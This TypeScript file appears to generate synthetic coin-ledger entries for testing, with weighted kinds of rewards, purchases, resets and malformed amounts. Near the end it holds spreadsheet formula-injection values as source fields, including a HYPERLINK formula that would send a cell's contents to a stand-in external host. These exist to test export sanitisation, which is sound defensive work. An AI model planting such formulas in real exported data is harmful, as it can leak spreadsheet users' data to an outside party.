import { DEFAULT_QUALITY_NOTES } from '../../changes/changeCoins.ts';
import type { CoinKind, EntryKind } from '../../history/entryKind.ts';
import { fieldIdOf } from '../fields.ts';

/** How a sort of entry moves a balance, and how often it comes. */
export interface WeightedKind {
  readonly weight: number;
  readonly kind: EntryKind;
  /** Of XP and coins; `assign` sets the balance, `none` leaves it. */
  readonly effect: 'add' | 'take' | 'assign' | 'none';
  /** The amount, from a number between 0 and 1. */
  readonly amountOf: (draw: number) => number;
}

const UNUSUAL_DELTA = {
  /** `2.5e+3`. */
  scientific: (amount: number) => amount.toExponential(),
  /** What a sum of binary fractions looked like: `12.340000000000001`. */
  legacy: (amount: number) => String(amount + 1e-15 * Math.max(1, amount)),
} as const;

interface CoinKindOptions {
  readonly activity?: EntryKind['activity'];
  readonly source?: string;
  readonly note?: string;
  readonly deltaOf?: CoinKind['deltaOf'];
  readonly rawAmountOf?: CoinKind['rawAmountOf'];
}

/** Quarters of a coin from `low` to `high`. */
const quarters = (low: number, high: number) => (draw: number) => low + Math.floor(draw * (high - low) * 4) / 4;
const constant = (amount: number) => () => amount;

/** Every operation and every quality note of P1 2.2, with amounts of every kind. */
export const COIN_KINDS: readonly WeightedKind[] = [
  coinKind(260, 'increase', 'daily_login', 'add', quarters(1, 25), {}),
  coinKind(140, 'increase', 'message_reward', 'add', quarters(0.25, 5), { activity: 'message' }),
  coinKind(70, 'increase', 'reply_reward', 'add', quarters(0.25, 4), { activity: 'reply' }),
  coinKind(60, 'increase', 'reaction_reward', 'add', quarters(0.25, 2), { activity: 'reaction' }),
  coinKind(30, 'increase', 'social_reward', 'add', quarters(1, 10), { activity: 'social' }),
  coinKind(150, 'increase', 'trade_reward', 'add', quarters(5, 120), { source: 'TRD-' }),
  coinKind(40, 'increase', 'bulk_update', 'add', quarters(10, 500), { source: 'bulk ' }),
  coinKind(120, 'decrease', 'store_purchase', 'take', quarters(10, 200), { source: 'ORD' }),
  coinKind(20, 'decrease', 'message_removed', 'take', quarters(0.25, 5), { activity: 'message' }),
  coinKind(15, 'decrease', 'admin_correction', 'take', quarters(1, 60), {}),
  coinKind(15, 'overwrite', 'admin_set', 'assign', quarters(0.25, 900), {}),
  coinKind(8, 'overwrite', 'season_reset', 'assign', constant(0), {}),
  coinKind(25, 'expiry', 'points_expired', 'take', quarters(1, 80), { source: 'EXP/' }),
  // An expiry that adds points: its sign is to be looked at before anything is summed up.
  coinKind(4, 'expiry', 'points_expired', 'add', quarters(1, 40), { note: 'expiry_sign_unexpected' }),
  coinKind(10, 'unknown', 'imported', 'add', quarters(1, 50), { source: 'legacy:' }),
  coinKind(3, 'unknown', 'imported', 'none', constant(0), { ...invalidAmount('null') }),
  coinKind(3, 'increase', 'imported', 'none', constant(0), { ...invalidAmount('"twelve"') }),
  coinKind(3, 'decrease', 'imported', 'none', constant(0), { ...invalidAmount('""') }),
  coinKind(2, 'overwrite', 'imported', 'none', constant(0), { ...invalidAmount('"1,5"') }),
  // Movements of zero are recorded, but no export has them.
  coinKind(6, 'increase', 'capped_reward', 'add', constant(0), {}),
  coinKind(2, 'decrease', 'store_purchase', 'take', constant(0), { source: 'ORD' }),
  coinKind(3, 'increase', 'season_bonus', 'add', (draw) => 1000 + Math.floor(draw * 30) * 100, {
    deltaOf: UNUSUAL_DELTA.scientific,
    rawAmountOf: UNUSUAL_DELTA.scientific,
  }),
  coinKind(2, 'increase', 'dust', 'add', constant(1e-7), {}),
  coinKind(5, 'increase', 'migrated_reward', 'add', (draw) => 1.1 + Math.floor(draw * 400) / 100, {
    note: 'legacy_number_precision_unverified',
    deltaOf: UNUSUAL_DELTA.legacy,
    rawAmountOf: UNUSUAL_DELTA.legacy,
  }),
  // References that a spreadsheet would read as formulas.
  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), {
    source: '=HYPERLINK("https://traders.example/?"&A1)#',
  }),
  coinKind(2, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '+49 ' }),
  coinKind(1, 'increase', 'partner_reward', 'add', quarters(1, 20), { source: '@SUM(A1:A9),' }),
  coinKind(1, 'decrease', 'partner_claim', 'take', quarters(1, 20), { source: '-1+2;' }),
];

/** Which of them is the one with the most weight: stands in where a balance is too small to take from. */
export const FALLBACK_COIN_KIND = 0;

function coinKind(
  weight: number,
  operation: CoinKind['operation'],
  action: string,
  effect: WeightedKind['effect'],
  amountOf: WeightedKind['amountOf'],
  extra: CoinKindOptions,
): WeightedKind {
  const sign = effect === 'take' ? -1 : 1;
  const notes = [
    ...DEFAULT_QUALITY_NOTES,
    ...(operation === 'overwrite' ? ['absolute_overwrite_not_an_earn'] : []),
    ...(extra.note === undefined ? [] : [extra.note]),
  ];
  return {
    weight,
    effect,
    amountOf,
    kind: {
      kind: 'coin',
      fieldId: fieldIdOf('total_coins'),
      fieldKey: 'total_coins',
      action,
      activity: extra.activity ?? null,
      coin: {
        operation,
        notes,
        deltaOf: extra.deltaOf ?? ((amount) => String(sign * amount + 0)),
        rawAmountOf: extra.rawAmountOf ?? String,
        source: extra.source ?? null,
      },
    },
  };
}

/** An amount that cannot be read: unknown, not zero. */
function invalidAmount(raw: string): CoinKindOptions {
  return { note: 'points_amount_invalid', deltaOf: () => null, rawAmountOf: () => raw };
}
